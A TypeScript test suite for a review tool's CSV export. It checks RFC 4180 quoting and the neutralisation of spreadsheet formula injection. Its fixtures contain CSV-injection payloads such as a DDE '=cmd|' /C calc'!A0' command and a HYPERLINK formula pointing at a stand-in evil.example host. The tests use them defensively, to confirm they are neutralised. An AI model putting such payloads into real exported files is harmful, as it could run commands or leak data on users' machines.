import * as assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import * as fc from 'fast-check';
import { CSV_COLUMNS, csvReport, csvRows, neutraliseFormula } from '../../../../src/core/export/csv';
import type { Annotation, ReviewItem } from '../../../../src/core/review/types';
import { fixtureInput, fixtureItems, fixtureWithUnresolvedSpeaker, TRICKY_NOTE } from './fixture';

/** A reviewed claim with the given text, note and source titles (everything else fixed). */
function reviewed(key: string, text: string, note: string, titles: string[], by = 'ana'): ReviewItem {
  const annotation: Annotation = {
    id: key, kind: 'claim', status: 'sourced', note, origin: 'manual',
    sources: titles.map((title, i) => ({ url: `https://example.org/${i}`, ...(title ? { title } : {}) })),
    target: { quote: { exact: text || 'x', prefix: '', suffix: '' }, position: { start: 0, end: 1 } },
    created: { by, at: '2024-05-01T10:00:00.000Z' }, updated: { by, at: '2024-05-01T10:00:00.000Z' },
  };
  return { key, kind: 'claim', range: { start: 0, end: 1 }, text, status: 'sourced', annotation, orphaned: false };
}

/** As spreadsheets read CSV: CRLF, LF and CR all end a record (outside quotes). */
const ANY_NEWLINE = { record_delimiter: ['\r\n', '\n', '\r'] };

/** Cells a spreadsheet would run as formulas: a trigger at the start or after leading whitespace, not neutralised. */
const runsAsFormula = (cell: string) => /^[\s\u00a0\ufeff]*[=+\-@]/.test(cell) || /^[\t\r]/.test(cell);

describe('CSV export', () => {
  const csv = csvReport(fixtureInput());
  const rows = parse(csv, { columns: true }) as Record<string, string>[];

  it('has a header and one row per item, with CRLF records', () => {
    assert.deepEqual(Object.keys(rows[0]), [...CSV_COLUMNS]);
    assert.equal(rows.length, fixtureItems().length);
    assert.ok(csv.startsWith(`${CSV_COLUMNS.join(',')}\r\n`));
  });

  it('round-trips commas, quotes and newlines in notes, sources and text (RFC 4180)', () => {
    const sourced = rows.find((r) => r.id === 'c-sourced')!;
    assert.equal(sourced.note, TRICKY_NOTE);
    assert.equal(sourced.sources, 'Budget, 2019 "final" <https://example.org/budget.pdf>\nhttps://example.org/audit');
    assert.equal(sourced.status, 'sourced');
    const headline = rows.find((r) => r.id === 'd-headlineish')!;
    assert.equal(headline.text, 'Budget <b>row</b>');
    assert.ok(csv.includes('"Budget, p. 12: ""4.2m"" is right,\nbut see'));
  });

  it('leaves the speaker empty for an unresolved pronoun (it names no one), on the quote and on the claim inside it', () => {
    const col = CSV_COLUMNS.indexOf('speaker');
    const byId = new Map(csvRows(fixtureWithUnresolvedSpeaker()).map((r) => [r[CSV_COLUMNS.indexOf('id')], r]));
    assert.equal(byId.get('q-lind')![col], '');
    assert.equal(byId.get('c-unverified')![col], '');
  });

  it('fills speaker, offsets and orphan flag', () => {
    assert.equal(rows.find((r) => r.id === 'q-lind')!.speaker, 'Anna Lind');
    assert.equal(rows.find((r) => r.id === 'c-unverified')!.speaker, 'Anna Lind');
    const orphan = rows.find((r) => r.id === 'c-orphan')!;
    assert.equal(orphan.orphaned, 'yes');
    assert.notEqual(orphan.start, '');
  });

  it('neutralises cells that a spreadsheet would run as formulas with a leading quote (OWASP), keeping RFC 4180 quoting', () => {
    const risky = ['=1+1', '+SUM(A1:A9)', '-2+3', '@cmd', '\tlead tab', '\rlead CR', '=HYPERLINK("http://evil.example/?x","click, here")'];
    const items: ReviewItem[] = risky.map((text, i) => ({ key: `k${i}`, kind: 'claim', range: { start: i, end: i + 1 }, text, status: 'unreviewed', orphaned: false }));
    const csv = csvReport(fixtureInput({ items, articlePath: '=cmd|calc.txt' }));
    const parsed = parse(csv, { columns: true }) as Record<string, string>[];
    assert.deepEqual(parsed.map((r) => r.text), risky.map((t) => `'${t}`));
    assert.ok(parsed.every((r) => r.article === "'=cmd|calc.txt"));
    assert.deepEqual(parsed.map((r) => r.start), risky.map((_, i) => String(i)));
    assert.ok(csv.includes('"\'=HYPERLINK(""http://evil.example/?x"",""click, here"")"'));
    // Ordinary text is untouched.
    assert.equal(rows.find((r) => r.id === 'c-disputed')!.note, 'Libraries closed in 2017, before the bridge.');
  });

  it('quotes a cell with a lone LF or CR, so two sources or a multi-line note never split the row (a continuation line never reaches column A)', () => {
    const items = [
      reviewed('two-sources', 'Wages rose 2%.', 'checked', ['Report', 'Survey']),
      reviewed('multiline', 'Prices fell.', 'first line\n=cmd|\' /C calc\'!A0', []),
      reviewed('lone-cr', 'Rents rose.', 'old Mac line\r@SUM(1+1)', []),
    ];
    const csv = csvReport(fixtureInput({ items }));
    const parsed = parse(csv, ANY_NEWLINE) as string[][];
    assert.equal(parsed.length, 1 + items.length);
    assert.ok(parsed.every((row) => row.length === CSV_COLUMNS.length));
    assert.deepEqual(parsed.slice(1).map((row) => row[1]), ['two-sources', 'multiline', 'lone-cr']);
    assert.equal(parsed[2][10], "first line\n=cmd|' /C calc'!A0");
    assert.ok(parsed.every((row) => !runsAsFormula(row[0])));
    // Every physical line that is not inside quotes starts a record with the article path.
    assert.ok(csv.includes('"first line\n=cmd'));
    assert.ok(csv.includes('"old Mac line\r@SUM'));
  });

  it('neutralises formula triggers after leading spaces too', () => {
    assert.equal(neutraliseFormula('  =1+1'), "'  =1+1");
    assert.equal(neutraliseFormula('\u00a0@cmd'), "'\u00a0@cmd");
    assert.equal(neutraliseFormula(' \n-2'), "' \n-2");
    assert.equal(neutraliseFormula('a = b'), 'a = b');
    assert.equal(neutraliseFormula(''), '');
    const items = [reviewed('spaces', '   =HYPERLINK("http://evil.example")', '  +1', [' @x'])];
    const parsed = parse(csvReport(fixtureInput({ items })), { columns: true }) as Record<string, string>[];
    assert.equal(parsed[0].text, `'   =HYPERLINK("http://evil.example")`);
    assert.equal(parsed[0].note, "'  +1");
    assert.equal(parsed[0].sources, "' @x <https://example.org/0>");
  });

  it('says which reviews changed since they were reviewed', () => {
    const changed = reviewed('changed', 'Wages rose 3%.', '', []);
    changed.annotation!.changedSinceReview = true;
    const parsed = parse(csvReport(fixtureInput({ items: [changed, reviewed('same', 'Prices fell.', '', [])] })), { columns: true }) as Record<string, string>[];
    assert.deepEqual(parsed.map((r) => r.changed_since_review), ['yes', 'no']);
  });

  it('property: any export parses back with csv-parse into exactly its cells (formula triggers neutralised), one record per item', function () {
    this.timeout(60_000);
    const SPECIALS = [',', '"', '\r', '\n', '\r\n', ' ', '\t', '=', '+', '-', '@', "'", '\u00a0', '\u2028', '\ufeff', 'é', '😀', ';', '|'];
    const cell = fc.string({ unit: fc.oneof(fc.constantFrom(...SPECIALS), fc.string({ unit: 'binary', maxLength: 1 }), fc.constantFrom('a', 'B', '7')), maxLength: 24 });
    const item = fc.record({ text: cell, note: cell, titles: fc.array(cell, { maxLength: 3 }), by: cell });
    fc.assert(
      fc.property(cell, fc.array(item, { maxLength: 6 }), (articlePath, specs) => {
        const items = specs.map((s, i) => reviewed(`k${i}`, s.text, s.note, s.titles, s.by));
        const input = fixtureInput({ items, articlePath });
        const csv = csvReport(input);
        const parsed = parse(csv, { ...ANY_NEWLINE, bom: false }) as string[][];
        const expected = [[...CSV_COLUMNS], ...csvRows(input).map((row) => row.map(neutraliseFormula))];
        assert.deepEqual(parsed, expected);
        for (const row of parsed.slice(1)) for (const c of row) assert.ok(!runsAsFormula(c), JSON.stringify(c));
      }),
      { numRuns: 400 },
    );
  });
});
